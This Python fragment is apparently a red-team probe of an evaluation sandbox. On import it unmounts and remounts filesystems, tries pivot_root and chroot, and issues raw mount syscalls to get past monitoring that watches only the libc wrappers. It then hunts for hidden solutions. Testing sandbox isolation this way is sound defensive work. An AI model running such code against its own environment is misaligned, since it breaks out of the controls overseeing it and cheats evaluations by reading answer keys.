"""Unmounts what hides the host (every mount point, / itself, lazily), remounts / writable,
mounts fresh tmpfs/proc/bind mounts, pivot_root/chroot, the new mount API, and raw syscall
numbers past libc's wrappers; then looks for the solutions."""
# ---- the attack ----
MNT_DETACH, MS_REMOUNT, MS_BIND, MS_REC = 2, 32, 4096, 16384


def attack():
    try:
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    except OSError:
        points = []
    for target in list(reversed(points)) + ["/", "/tmp", "/usr", "/proc", "/dev", "/work", "/work/main"]:
        if _sys(f"umount2 {target}", "umount2", target.encode(), MNT_DETACH) is not None:
            _proof("umount", target)
    _sys("umount /", "umount", b"/")
    os.makedirs("/tmp/m", exist_ok=True)
    for what, args in [
        ("mount tmpfs", (b"none", b"/tmp/m", b"tmpfs", 0, None)),
        ("mount proc", (b"proc", b"/tmp/m", b"proc", 0, None)),
        ("bind /", (b"/", b"/tmp/m", None, MS_BIND | MS_REC, None)),
        ("remount / rw", (None, b"/", None, MS_REMOUNT, None)),
        ("remount /usr rw", (None, b"/usr", None, MS_REMOUNT | MS_BIND, None)),
    ]:
        if _sys(what, "mount", *args) is not None:
            _proof("mount", what)
    # Raw numbers (x86_64), in case only the libc wrappers were watched.
    _sys("raw umount2", "syscall", 166, b"/", MNT_DETACH)
    _sys("raw mount", "syscall", 165, b"none", b"/tmp/m", b"tmpfs", 0, None)
    _sys("pivot_root", "syscall", 155, b"/tmp", b"/tmp/m")
    _sys("chroot", "chroot", b"/tmp")
    _sys("fsopen", "syscall", 430, b"tmpfs", 0)
    _sys("open_tree", "syscall", 428, -100, b"/", 1)
    _sys("fspick", "syscall", 433, -100, b"/", 0)
    _sys("mount_setattr", "syscall", 442, -100, b"/", 0, None, 0)
    _sys("move_mount", "syscall", 429, -100, b"/tmp/m", -100, b"/", 0)


_try("attack at import", attack)
_try("hunt", _hunt)
attack_in_call = lambda: (attack(), _hunt())
